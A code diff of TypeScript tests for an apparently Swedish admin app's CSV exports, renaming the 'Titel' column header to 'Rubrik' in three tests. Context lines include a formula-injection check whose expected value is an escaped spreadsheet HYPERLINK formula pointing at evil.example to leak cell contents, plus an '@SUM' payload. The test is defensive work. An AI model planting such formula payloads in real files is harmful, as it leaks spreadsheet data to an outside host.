@@ -93,7 +93,7 @@ describe('exports (R3)', () => {
     expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(res.headers['content-disposition']).toMatch(/attachment; filename="?arets-misstag-\d{4}-bidrag\.csv"?/);
     const rows = readCsv(res.text);
-    expect(rows[0].slice(0, 4)).toEqual(['Nr', 'Omgång', 'Status', 'Titel']);
+    expect(rows[0].slice(0, 4)).toEqual(['Nr', 'Omgång', 'Status', 'Rubrik']);
     const hostile = rows.find((r) => r[0] === String(hostileId))!;
     expect(hostile[3]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Klicka här")');
     expect(hostile[9]).toBe("'@SUM(1+1)");
@@ -135,7 +135,7 @@ describe('exports (R3)', () => {
       const res = await agent.get('/admin/exports/votes.csv');
       expect(res.status).toBe(200);
       const rows = readCsv(res.text);
-      expect(rows[0]).toEqual(['Nr', 'Titel', 'Förvaltning', 'Röster']);
+      expect(rows[0]).toEqual(['Nr', 'Rubrik', 'Förvaltning', 'Röster']);
       expect(rows.find((r) => r[0] === String(entries[0].id))![3]).toBe('2');
       expect(res.text).not.toMatch(/Bo Ekström|Eva Sjöberg|bo@example|eva@example/);
     } finally {
@@ -153,7 +153,7 @@ describe('exports (R3)', () => {
     const agent = await ctx.signIn('admin@example.org');
     const res = await agent.get('/admin/exports/scores.csv');
     const rows = readCsv(res.text);
-    expect(rows[0]).toEqual(['Nr', 'Titel', 'Jurymedlem', 'Kriterium', 'Vikt', 'Poäng', 'Bedömningen inskickad']);
+    expect(rows[0]).toEqual(['Nr', 'Rubrik', 'Jurymedlem', 'Kriterium', 'Vikt', 'Poäng', 'Bedömningen inskickad']);
     const mine = rows.filter((r) => r[2] === 'David Holm');
     expect(mine.map((r) => r[3])).toEqual(['Mod', 'Lärdom', 'Spridning', 'Utmaning']);
     expect(mine.find((r) => r[3] === 'Lärdom')![4]).toBe('1,5');
